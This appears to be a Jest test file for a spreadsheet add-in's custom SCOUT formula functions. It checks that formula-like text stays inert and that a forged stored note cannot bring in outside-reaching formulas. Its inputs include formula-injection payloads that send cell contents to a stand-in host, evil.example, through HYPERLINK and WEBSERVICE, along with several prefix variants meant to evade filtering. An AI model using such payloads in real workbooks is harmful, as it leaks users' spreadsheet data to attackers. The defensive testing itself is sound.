/**
 * Texts that read like formulas, as the service may give them and a file may claim them: nothing that
 * people do with formulas makes one of them live, and nothing of it buys anything.
 */
import { say } from "../../src/texts";
import { hostForTests, type SurfacesBench } from "./surfaces/boot-surfaces";
import { column } from "./surfaces/enriching";

jest.setTimeout(120_000);

const ASKS = 'SCOUT.COMPANY("harbor.example","Name")';
const TEXTS = [
  `=${ASKS}`,
  `=_xlfn.${ASKS}&HYPERLINK("http://evil.example/?"&A1,"x")`,
  `=_xldudf_SCOUT_COMPANY("harbor.example","Name")`,
  `==${ASKS}`,
  `+${ASKS}`,
  `-${ASKS}`,
  `@${ASKS}`,
  `'=${ASKS}`,
  `\t=${ASKS}`,
  `\r=${ASKS}`,
  `\n=${ASKS}`,
  ` =${ASKS}`,
  `＝${ASKS}`,
  `=[2]!_xldudf_SCOUT_COMPANY("harbor.example","Name")`,
];

describe("Texts that read like formulas", () => {
  const host = hostForTests();

  it("stay texts through repair, freeze, unfreeze and the search for waiting cells, for 0 credits", async () => {
    const bench = await host.boot();
    const { workbench, surfaces, paidPaths } = bench;
    await workbench.setCells(
      `A1:A${String(TEXTS.length)}`,
      column(...TEXTS.map((text) => `'${text}`))
    );
    await workbench.settled();
    const before = workbench.values(`A1:A${String(TEXTS.length)}`);
    expect(before[0]).toEqual([TEXTS[0]]);
    await workbench.select(`A1:A${String(TEXTS.length)}`);
    const { formulaTools } = surfaces;
    expect(say(await formulaTools.repair())).toMatch(/^No formula/);
    expect(say(await formulaTools.freeze("workbook"))).toMatch(/^No formula/);
    expect(say(await formulaTools.unfreeze("workbook"))).toMatch(/^No formula/);
    expect(say(await formulaTools.selectWaiting())).toBe("No cell waits.");
    await workbench.recalculate({ restartFunctions: true });
    await workbench.settled();
    expect(workbench.values(`A1:A${String(TEXTS.length)}`)).toEqual(before);
    expect(liveIn(bench)).toBe(0);
    expect(paidPaths()).toEqual([]);
  });

  it("stay texts when a formula that shows one is frozen and unfrozen", async () => {
    const bench = await host.boot();
    const { workbench, surfaces } = bench;
    await workbench.setCells("A1", [
      [`="=${ASKS.replaceAll('"', '""')}"&IFERROR(SCOUT.CREDITS("waiting")*0,"")`],
    ]);
    await workbench.settled();
    await surfaces.formulaTools.freeze("workbook");
    expect(workbench.values("A1")).toEqual([[`=${ASKS}0`]]);
    expect(liveIn(bench)).toBe(0);
    await surfaces.formulaTools.freeze("workbook");
    expect(say(await surfaces.formulaTools.unfreeze("workbook"))).toMatch(/^1 formula/);
  });

  it("come back from a forged note only as formulas of ours that reach nothing else", async () => {
    const first = await host.boot();
    await first.workbench.setCells(
      "A1:A4",
      column(...Array<string>(4).fill('=SCOUT.COMPANY("acme.example","Name")'))
    );
    await first.workbench.settled();
    await first.surfaces.formulaTools.freeze("workbook");
    await first.surfaces.store.flush();
    const [name = ""] = Object.keys(first.workbench.settings()).filter((key) =>
      key.startsWith("stackscout.frozen")
    );
    const note = JSON.parse(JSON.parse(first.workbench.settings()[name] ?? "") as string) as Record<
      string,
      unknown
    >[];
    const claims = [
      '=HYPERLINK("https://evil.example/?"&A1,"x")',
      `=${ASKS}&WEBSERVICE("https://evil.example/?"&A1)`,
      '=SCOUT.COMPANY("acme.example","Country")',
      null,
    ];
    const forged = note.map((item, at) => ({ ...item, formula: claims[at] ?? item["formula"] }));
    forged.push({
      ...forged[2],
      row: 9,
      fingerprint: note[0]?.["fingerprint"],
    } as (typeof forged)[number]);
    await first.workbench.otherUser.setSetting(name, JSON.stringify(forged));
    const workbook = await first.workbench.save();
    await host.closeBenches();

    const second = await host.boot({ workbook, key: null, isOffline: true });
    const report = await second.surfaces.formulaTools.unfreeze("workbook");
    expect(say(report)).toContain(
      "2 formulas that the file brings do more than ask our functions and stayed values. Enter what you trust, first in Sheet1!A1: =HYPERLINK("
    );
    expect(second.workbench.formulas("A1:A10").flat()).toEqual([
      "Acme Example Corporation",
      "Acme Example Corporation",
      '=SCOUT.COMPANY("acme.example","Country")',
      '=SCOUT.COMPANY("acme.example","Name")',
      ...Array<string>(6).fill(""),
    ]);
  });
});

/** Formulas of the first column. */
function liveIn({ workbench }: SurfacesBench): number {
  const at = `A1:A${String(TEXTS.length)}`;
  const values = workbench.values(at).flat();
  return workbench
    .formulas(at)
    .flat()
    .filter((cell, row) => cell !== values[row]).length;
}
